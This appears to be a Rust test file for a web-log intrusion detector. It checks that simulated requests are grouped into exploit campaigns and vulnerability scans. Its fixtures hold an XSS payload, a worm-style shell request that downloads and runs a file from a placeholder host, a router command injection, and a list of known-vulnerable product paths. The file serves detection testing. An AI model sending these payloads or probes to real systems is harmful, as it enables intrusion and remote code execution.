//! What unlike sources have in common, on small seeded sites: one page of the site, one agent within an hour, a
//! list that one of them works off; and noise, which has nothing in common.

use super::Found;
use super::sample::{BROWSER, Site};
use super::tests::site;
use crate::judge::judgement::IntrusionKind::{self, ExploitProbe, VulnerabilityScan};

fn told(found: &Found) -> Vec<(IntrusionKind, u64, u64)> {
    found.campaigns.iter().map(|one| (one.kind, one.requests, one.sources)).collect()
}

/// Five sources with agents of their own, an hour between them, six requests each.
fn in_turn(site: &mut Site, target: impl Fn(u32) -> String, answer: (i16, i64)) {
    for k in 0..30 {
        let (client, agent) = (format!("198.51.{}.7", k / 6), format!("{BROWSER} {}", k / 6));
        let at_s = 90_000.0 + f64::from(k / 6) * 3600.0 + f64::from(k);
        site.get((at_s, &client, &agent), &target(k), answer);
    }
}

#[test]
fn payloads_of_unlike_sources_for_one_page_of_the_site_are_one_campaign() {
    let payload =
        |page: &'static str| move |k: u32| format!("{page}?q=%3Cscript%3Ealert({k})%3C/script%3E");
    let mut own = site(21);
    in_turn(&mut own, payload("/area/1"), (200, 9000));
    let found = own.found();
    assert_eq!(told(&found), [(ExploitProbe, 30, 5)]);
    assert_eq!(found.campaigns[0].aimed, ["aimed_focused"]);
    // What every site has, and what this one has not, is asked for by anybody.
    for page in ["/", "/nowhere"] {
        let mut other = site(22);
        in_turn(&mut other, payload(page), (404, 500));
        assert_eq!(told(&other.found()), [], "{page}");
    }
}

#[test]
fn a_worm_with_several_weaknesses_is_one_campaign() {
    let mut site = site(23);
    for k in 0..30 {
        let target = [
            "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.77/j;sh+/tmp/j",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.77/m",
            "/.env",
        ][k % 3];
        let client = format!("198.{}.100.7", 20 + k);
        site.get((100_000.0 + k as f64 * 60.0, &client, "Hello, world"), target, (404, 500));
    }
    assert_eq!(told(&site.found()), [(ExploitProbe, 30, 30)]);
}

/// Products with known weaknesses, by path.
const PRODUCTS: [&str; 12] = [
    "/phpmyadmin/index.php",
    "/manager/html",
    "/solr/admin/info/system",
    "/jenkins/script",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/+CSCOE+/logon.html",
    "/wp-login.php",
];

#[test]
fn a_list_of_products_worked_off_by_one_source_is_a_scan() {
    for (paths, expected) in [(12, vec![(VulnerabilityScan, 12, 1)]), (6, vec![])] {
        let mut site = site(24);
        for (k, path) in PRODUCTS.iter().take(paths).enumerate() {
            site.get((100_000.0 + k as f64, "203.0.113.5", BROWSER), path, (404, 500));
        }
        assert_eq!(told(&site.found()), expected, "{paths}");
    }
}

#[test]
fn a_network_whose_addresses_share_the_work_is_one_source() {
    let mut site = site(25);
    for k in 0..40 {
        let (client, agent) = (format!("203.0.113.{}", k % 20), format!("{BROWSER} {}", k % 20));
        let path = PRODUCTS[k % 4];
        site.get((100_000.0 + k as f64 * 30.0, &client, &agent), path, (404, 500));
    }
    assert_eq!(told(&site.found()), [(ExploitProbe, 40, 20)]);
}

#[test]
fn a_file_that_is_there_for_a_while_is_suspected_only_then() {
    let mut site = site(26);
    for k in 0..60 {
        let target = match k % 6 {
            0 => "/uploads/alfa.php".to_owned(),
            _ => format!("{}?{k}", PRODUCTS[k % 12]),
        };
        let answer = if k == 30 { (200, 1545) } else { (200, 3120) };
        site.get((100_000.0 + k as f64, "203.0.113.5", BROWSER), &target, answer);
    }
    let found = site.found();
    let reasons: Vec<&str> = found.attempts.rows.iter().filter_map(|row| row.reason).collect();
    assert_eq!(reasons, ["appeared"]);
}
